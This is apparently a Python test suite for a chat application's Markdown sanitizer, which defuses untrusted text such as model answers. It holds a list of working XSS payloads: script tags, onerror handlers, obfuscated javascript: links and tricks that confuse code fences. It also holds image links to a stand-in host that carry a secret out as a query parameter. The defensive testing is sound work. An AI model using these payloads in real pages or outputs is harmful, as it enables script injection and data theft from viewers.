"""Markdown someone else wrote, defused: rendered by a real viewer (marked, with
no sanitizing of ours; tests/helpers/markdown.py), nothing in it runs or
fetches, and ordinary Markdown and code read as written."""

import time

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from chat.conversations.untrusted_markdown import markdown_defuse, markdown_plain
from tests.helpers.markdown import elements, live_parts, shown_text

# Each one is live in a plain viewer as it is (test_each_hostile_string_is_live_undefused).
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "![x]\n\n[x]: https://evil.example/?q=secret",
    "![x](data:image/png;base64,AAAA)",
    "[![x](https://evil.example/p.png)](https://example.com)",
    "<javascript:alert(1)>",
    "[click](javascript:alert(1))",
    "[click](jav&#x61;script:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click][j]\n\n[j]: javascript:alert(1)",
    "[click]\n\n[click]:\n  javascript:alert(1)",
    "ftp://evil.example/x",
    # Code that isn't where a naive reading puts it.
    "  ```\n  code\n```\n<script>alert(1)</script>\n```",
    "- ```\n  <b>x</b>\n  ```\n<script>alert(1)</script>",
    "1. item\n   ```\n   code\n<script>alert(1)</script>\n```\n<b>x</b>",
    "```\ncode\r```\r<script>alert(1)</script>",
    "a `b\n` <img src=x onerror=alert(1)> `",
    "http://a`b ` ` <script>alert(1)</script> `",
    '[a](http://x "t `") ` ` <img src=x onerror=alert(1)> `',
    "| a | b |\n|---|---|\n| `a | b` ` <img src=x onerror=alert(1)> ` |",
    "*a ``b`*<img src=x onerror=alert(1)>``",
    "~~a `b~~<img src=x onerror=alert(1)>`",
    "[x```](javascript:alert(1))```",
    # marked reads a definition's label or title on across lines and code.
    "[1: x\n\n```\n]: y\n<img src=x onerror=alert(1)>\n```",
    '[a]: https://example.com "\n\n```\nx"\n<script>alert(1)</script>\n```',
]

# Markdown and HTML pieces, the ones that start, end or escape something.
PIECES = [
    "<", ">", "<img src=x onerror=1>", "<script>", "<b>", "</", "<!--", "<https://e.example>",
    "`", "``", "```", "~~~", "~", "~~", "*", "**", "_", "\\", "|", "---", "===", "#",
    "\n", "\n\n", "\t", "\r", " ", "    ", "- ", "1. ", "1) ", "> ", "\n[", "\n\n```\n",
    "![", "[", "]", "(", ")", "](", "]:", "[1]: ", "![x][1]", "[1]", "\"", "'",
    "javascript:alert(1)", "https://evil.example/p.png", "http://", "www.", "ftp://", "@",
    "&#x61;", "&lt;", ":", "=", "x", "a b",
]  # fmt: skip
pieces = st.one_of(st.sampled_from(PIECES), st.text(max_size=3))
hostile_markdown = st.lists(pieces, max_size=40).map("".join)

BENIGN = """# Mint

It is **mint** (*Mentha*), see [the guide](https://example.com/mint "Guide") or ~~basil~~.

- serrated leaves
- square stem
  - nested `a < b`

1. Pick
2. Dry

| part | use |
|:---|---:|
| leaf | tea |

Use `grep -r "<div>" .` to find it, and ``a ` b`` too.

```html
<div class="x">hi</div>
```

> quoted *text*

***

Write to mail@example.com or www.example.com, or read [the ref][r].

[r]: https://example.com/r
"""


@pytest.mark.parametrize("markdown", HOSTILE)
def test_each_hostile_string_is_live_undefused(marked, markdown):
    assert live_parts(marked.render(markdown))


@pytest.mark.parametrize("markdown", HOSTILE)
def test_a_hostile_string_leaves_nothing_live(marked, markdown):
    assert live_parts(marked.render(markdown_defuse(markdown))) == []


@hypothesis_settings(max_examples=400, deadline=None)
@given(hostile_markdown)
def test_no_markdown_leaves_anything_live(marked, markdown):
    assert live_parts(marked.render(markdown_defuse(markdown))) == []


def test_raw_html_reads_as_the_text_it_is(marked):
    html = marked.render(markdown_defuse("Try <img src=x onerror=alert(1)> now"))
    assert shown_text(html).strip() == "Try <img src=x onerror=alert(1)> now"


def test_a_picture_shows_its_words_instead(marked):
    html = marked.render(markdown_defuse("![a *cat* <b>](https://evil.example/?q=secret)"))
    assert shown_text(html).strip() == "Picture not shown: a *cat* <b>"
    assert "evil.example" not in html


def test_a_link_to_another_scheme_reads_as_text(marked):
    html = marked.render(markdown_defuse("[click](javascript:alert(1))"))
    assert shown_text(html).strip() == "[click](javascript:alert(1))"


def test_ordinary_markdown_renders_as_it_did(marked):
    assert marked.render(markdown_defuse(BENIGN)) == marked.render(BENIGN)


def test_inline_code_keeps_its_html_verbatim(marked):
    html = marked.render(markdown_defuse('Use `<br>` and `grep "<div>"` here.'))
    assert [t for t, _ in elements(html)] == ["p", "code", "code"]
    assert shown_text(html).strip() == 'Use <br> and grep "<div>" here.'


def test_code_in_a_list_item_keeps_its_content_verbatim(marked):
    markdown = '1. Install:\n\n   ```bash\n   pip install "x<2"\n   ```\n\n2. Run it.'
    html = marked.render(markdown_defuse(markdown))
    assert '<pre><code class="language-bash">pip install &quot;x&lt;2&quot;\n</code></pre>' in html


@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r\n\x00")),
        max_size=6,
    ),
    st.sampled_from(["```", "~~~", "````"]),
)
def test_a_fenced_block_keeps_any_content_verbatim(marked, code_lines, fence):
    lines = [line for line in code_lines if not line.lstrip(" \t").startswith(fence[0] * 3)]
    markdown = "\n".join(["Look:", "", fence, *lines, fence, "", "Done."])
    assert code_shown(marked.render(markdown_defuse(markdown))) == code_shown(
        marked.render(markdown)
    )


def code_shown(html):
    (block,) = [part.split("</pre>")[0] for part in html.split("<pre>")[1:]]
    return shown_text(block)


def test_plain_text_shows_markdown_and_html_as_typed(marked):
    text = "<img src=x onerror=alert(1)> *not bold* [x](javascript:y) # &amp; `c` ~~d~~"
    html = marked.render(markdown_plain(text))
    assert [t for t, _ in elements(html)] == ["p"]
    assert shown_text(html).strip() == text


@pytest.mark.parametrize(
    "unit",
    ["![", "](x", "]:x", "[a\n", "` "],
    ids=["images", "links", "definitions", "labels", "backticks"],
)
def test_a_long_hostile_answer_takes_time_in_its_length_not_its_square(unit):
    # A model's answer is untrusted: a quadratic pass over it is a way to
    # stall the export ("links" once took 15 s). Compared as a ratio in one
    # run, not against a clock: eight times the text takes about eight times
    # as long when linear, sixty-four when quadratic (a shared machine's noise
    # fits between the two).
    def seconds(repeat):
        text = unit * repeat
        best = float("inf")
        for _ in range(3):
            started = time.perf_counter()
            markdown_defuse(text)
            best = min(best, time.perf_counter() - started)
        return best

    ratio = seconds(40_000) / max(seconds(5_000), 1e-4)
    assert ratio < 24, f"8x the text took {ratio:.1f}x as long"
